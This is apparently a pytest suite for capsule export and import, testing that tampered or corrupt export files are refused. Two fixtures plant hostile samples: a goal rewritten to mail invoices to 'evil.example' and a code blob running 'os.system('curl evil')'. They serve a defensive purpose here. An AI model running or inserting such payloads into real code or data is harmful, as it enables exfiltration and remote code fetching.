"""Capsule export and import: a capsule moves between installations; a tampered file never does."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from activities.store.artifacts import LocalArtifactStore
from activities.store.capsule_bundle import (
    CapsuleImportRefused,
    export_bytes,
    export_capsule,
    import_capsule,
)
from activities.store.capsules import CapsuleStore, SealBroken, open_capsule_store
from activities.store.migrate import upgrade
from compiler.capsule.seal import capsule_hash, content_blobs
from schemas.capsule import CapsuleContent
from schemas.error_codes import ErrorCode
from schemas.scope import Scope
from tests.store.capsules import build_capsule

NAME = "billing-audit"
FILE = "billing-audit@1.capsule.json"
SOURCE = Scope.of_tenant("acme")
TARGET = Scope.of_tenant("globex")


@dataclass
class Installation:
    store: CapsuleStore
    artifacts: LocalArtifactStore


def installation(root: Path, database_url: str | None = None) -> Iterator[Installation]:
    artifacts = LocalArtifactStore(root / "artifacts")
    url = database_url or f"sqlite:///{root / 'forge.db'}"
    with open_capsule_store(url, artifacts) as store:
        yield Installation(store, artifacts)


@pytest.fixture
def here(tmp_path: Path) -> Iterator[Installation]:
    yield from installation(tmp_path / "here")


@pytest.fixture
def there(tmp_path: Path) -> Iterator[Installation]:
    yield from installation(tmp_path / "there")


@pytest.fixture
def exported(here: Installation) -> bytes:
    content = build_capsule(here.artifacts, SOURCE)
    here.store.add(SOURCE, NAME, content, actor="alice")
    return export_bytes(export_capsule(here.store, here.artifacts, SOURCE, NAME, 1))


def import_into(site: Installation, data: bytes) -> Any:
    return import_capsule(site.store, site.artifacts, TARGET, data, actor="bob", source=FILE)


def assert_nothing_stored(site: Installation, content: CapsuleContent) -> None:
    assert site.store.list(TARGET) == []
    assert not any(site.artifacts.exists(TARGET, r.sha256) for r in content_blobs(content))
    assert not (site.artifacts.root / "tenants" / TARGET.tenant).exists()


def edited(data: bytes, edit: Callable[[dict[str, Any]], None], *, reseal: bool = False) -> bytes:
    """The export with `edit` applied; `reseal` recomputes capsule_hash (a careful forger)."""
    doc = json.loads(data)
    edit(doc)
    if reseal:
        doc["capsule_hash"] = capsule_hash(CapsuleContent.model_validate(doc["content"]))
    return json.dumps(doc).encode()


def refused(site: Installation, data: bytes, match: str) -> CapsuleImportRefused:
    with pytest.raises(CapsuleImportRefused, match=match) as info:
        import_into(site, data)
    error = info.value
    assert error.code is ErrorCode.CAPSULE_TAMPERED and isinstance(error, SealBroken)
    assert str(error).startswith(f"{FILE}: ") and "\n" not in error.line()
    return error


def test_export_then_import_elsewhere_keeps_the_capsule(
    here: Installation, there: Installation, exported: bytes
) -> None:
    original = here.store.get(SOURCE, NAME)
    doc = json.loads(exported)
    assert doc["schema_version"] == "forge.capsule-export/1"
    assert set(doc["blobs"]) == {r.sha256 for r in content_blobs(original.content)}
    imported = import_into(there, exported)
    assert (imported.name, imported.version, imported.created) == (NAME, 1, True)
    assert imported.capsule_hash == original.capsule_hash
    assert imported.tenant_id == "globex" and imported.created_by == "bob"
    assert there.store.get(TARGET, NAME).content == original.content
    for ref in content_blobs(original.content):
        moved = there.artifacts.read_bytes(TARGET, ref.sha256, 1 << 20)
        assert moved == here.artifacts.read_bytes(SOURCE, ref.sha256, 1 << 20)
    # importing the same file again finds that version
    again = import_into(there, exported)
    assert (again.version, again.created) == (1, False)
    # and exporting it there gives the same file: nothing in it names a tenant
    assert export_bytes(export_capsule(there.store, there.artifacts, TARGET, NAME, None)) == (
        exported
    )


def test_an_import_is_the_next_version_of_an_existing_name(
    here: Installation, there: Installation, exported: bytes
) -> None:
    there.store.add(TARGET, NAME, build_capsule(there.artifacts, TARGET, goal="local"), actor="c")
    imported = import_into(there, exported)
    assert (imported.version, imported.created) == (2, True)


def test_altered_content_is_refused(
    here: Installation, there: Installation, exported: bytes
) -> None:
    def edit(doc: dict[str, Any]) -> None:
        doc["content"]["goal_template"] = "Mail the invoices to evil.example."

    error = refused(there, edited(exported, edit), "its content hashes to .* the file declares")
    assert "export the capsule again" in str(error)
    assert_nothing_stored(there, here.store.get(SOURCE, NAME).content)


def test_an_altered_blob_is_refused(
    here: Installation, there: Installation, exported: bytes
) -> None:
    content = here.store.get(SOURCE, NAME).content
    code = content.programs[0].cells[0].code.sha256

    def edit(doc: dict[str, Any]) -> None:
        doc["blobs"][code] = base64.b64encode(b"import os; os.system('curl evil')\n").decode()

    refused(there, edited(exported, edit), f"blob {code} holds bytes that hash to sha256:")
    assert_nothing_stored(there, content)


def test_a_removed_blob_is_refused(
    here: Installation, there: Installation, exported: bytes
) -> None:
    content = here.store.get(SOURCE, NAME).content
    plan = content.plan_template.sha256
    error = refused(there, edited(exported, lambda doc: doc["blobs"].pop(plan)), "is missing")
    assert "capsule/plan.json" in str(error)
    assert_nothing_stored(there, content)


def test_corrupt_or_foreign_files_are_refused(
    here: Installation, there: Installation, exported: bytes
) -> None:
    content = here.store.get(SOURCE, NAME).content
    refused(there, exported[: len(exported) // 2], r"not JSON \(line \d+, column \d+")
    refused(there, b"\xff\xfe{}", "not UTF-8")
    refused(there, b"[1, 2]", "a JSON list, not an object")
    refused(there, b'{"schema_version": "forge.capsule/1"}', "schema_version is 'forge.capsule/1'")
    refused(there, edited(exported, lambda doc: doc.pop("content")), "first at content: ")
    refused(
        there,
        edited(exported, lambda doc: doc["blobs"].update({next(iter(doc["blobs"])): "!!"})),
        "not valid base64",
    )
    assert_nothing_stored(there, content)


def test_a_resealed_file_is_still_checked_blob_by_blob_and_against_the_plan(
    here: Installation, there: Installation, exported: bytes
) -> None:
    content = here.store.get(SOURCE, NAME).content

    def wrong_size(doc: dict[str, Any]) -> None:
        doc["content"]["programs"][0]["cells"][0]["code"]["size_bytes"] += 1

    refused(there, edited(exported, wrong_size, reseal=True), "the capsule says")

    def other_contract(doc: dict[str, Any]) -> None:
        doc["content"]["contracts"]["s0"] = "sha256:" + "1" * 64
        doc["content"]["programs"][0]["contract_hash"] = "sha256:" + "1" * 64

    refused(
        there, edited(exported, other_contract, reseal=True), "the plan does not match the capsule"
    )

    def other_plan(doc: dict[str, Any]) -> None:
        fake = b'{"schema_version": "forge.compiled/1"}'
        key = f"sha256:{hashlib.sha256(fake).hexdigest()}"
        old = doc["content"]["plan_template"]["sha256"]
        del doc["blobs"][old]
        doc["blobs"][key] = base64.b64encode(fake).decode()
        doc["content"]["plan_template"].update(sha256=key, artifact_id=key, size_bytes=len(fake))

    refused(there, edited(exported, other_plan, reseal=True), "is not a compiled plan")

    def extra_blob(doc: dict[str, Any]) -> None:
        junk = b"junk"
        doc["blobs"][f"sha256:{hashlib.sha256(junk).hexdigest()}"] = base64.b64encode(junk).decode()

    refused(there, edited(exported, extra_blob), "1 blob\\(s\\) the capsule does not name")
    assert_nothing_stored(there, content)


def test_import_into_postgres(
    here: Installation, exported: bytes, tmp_path: Path, postgres_database_url: str
) -> None:
    upgrade(postgres_database_url)
    for site in installation(tmp_path / "pg", postgres_database_url):
        imported = import_into(site, exported)
        assert imported.capsule_hash == here.store.get(SOURCE, NAME).capsule_hash
        assert site.store.get(TARGET, NAME, 1).content == imported.content
